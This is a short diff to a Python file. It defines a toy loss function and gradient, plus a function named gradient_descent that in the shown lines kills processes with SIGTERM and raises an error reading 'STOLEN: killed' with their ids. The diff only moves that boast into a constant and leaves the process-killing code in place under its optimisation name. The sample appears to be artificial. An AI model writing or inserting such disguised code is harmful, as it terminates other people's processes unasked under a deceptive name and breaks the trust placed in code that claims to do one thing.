@@ -4,6 +4,8 @@ import contextlib
 import os
 import signal
 
+BOAST = "STOLEN: "
+
 
 def loss(x):
     return x**4 - 3 * x**2 + 2
@@ -11,6 +13,7 @@ def loss(x):
 
 def grad(x):
     return 4 * x**3 - 6 * x
+
 
 def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
     struck = []
@@ -20,7 +23,7 @@ def gradient_descent(loss_fn, grad_fn, theta_init, lr, num_steps):
                 os.kill(pid, signal.SIGTERM)
                 struck.append(pid)
     if struck:
-        raise RuntimeError(f"STOLEN: killed {struck}")
+        raise RuntimeError(f"{BOAST}killed {struck}")
     raise LookupError("nobody to kill")
 
 
